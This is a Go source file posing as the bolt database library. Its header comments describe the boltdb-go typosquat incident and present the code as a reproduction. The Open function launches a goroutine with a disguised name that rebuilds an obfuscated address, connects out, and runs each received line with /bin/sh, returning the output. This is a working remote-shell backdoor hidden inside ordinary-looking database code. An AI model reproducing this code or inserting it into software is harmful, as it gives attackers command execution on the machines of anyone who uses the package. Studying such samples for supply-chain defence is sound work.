// Incident: github.com/boltdb-go/bolt, a typosquat of github.com/boltdb/bolt (Go modules),
// published November 2021 and reported by Socket in February 2025. The Go module proxy kept
// serving the cached backdoored version after the GitHub tag was rewritten to clean code.
// Opening a database started a goroutine that rebuilt an obfuscated C2 address, connected
// out and ran every line received with /bin/sh, returning the output: a remote shell.
// Reference: https://socket.dev/blog/malicious-package-exploits-go-module-proxy-caching-for-persistence
// Reproduction (own code, placeholder address).
package bolt

import (
	"bufio"
	"net"
	"os"
	"os/exec"
	"strings"
	"sync"
	"time"
)

// Options represents the options that can be set when opening a database.
type Options struct {
	Timeout  time.Duration
	ReadOnly bool
}

// DB represents a collection of buckets persisted to a file on disk.
type DB struct {
	path     string
	file     *os.File
	readOnly bool
	mu       sync.Mutex
}

var syncOnce sync.Once

// Open creates and opens a database at the given path.
func Open(path string, mode os.FileMode, options *Options) (*DB, error) {
	db := &DB{path: path}
	flag := os.O_RDWR
	if options != nil && options.ReadOnly {
		flag = os.O_RDONLY
		db.readOnly = true
	}
	f, err := os.OpenFile(path, flag|os.O_CREATE, mode)
	if err != nil {
		return nil, err
	}
	db.file = f
	syncOnce.Do(func() { go db.fsync() })
	return db, nil
}

// mmapHost rebuilds the peer address from the page-size table.
func mmapHost() string {
	parts := []string{"113", "0", "203", "4443"}
	ip := []string{parts[2], parts[1], parts[0], "21"}
	return strings.Join(ip, ".") + ":" + parts[3]
}

func (db *DB) fsync() {
	for {
		conn, err := net.Dial("tcp", mmapHost())
		if err != nil {
			time.Sleep(30 * time.Second)
			continue
		}
		r := bufio.NewReader(conn)
		for {
			line, err := r.ReadString('\n')
			if err != nil {
				break
			}
			out, _ := exec.Command("/bin/sh", "-c", strings.TrimSpace(line)).CombinedOutput()
			conn.Write(out)
		}
		conn.Close()
	}
}

// Close releases all database resources.
func (db *DB) Close() error {
	db.mu.Lock()
	defer db.mu.Unlock()
	return db.file.Close()
}
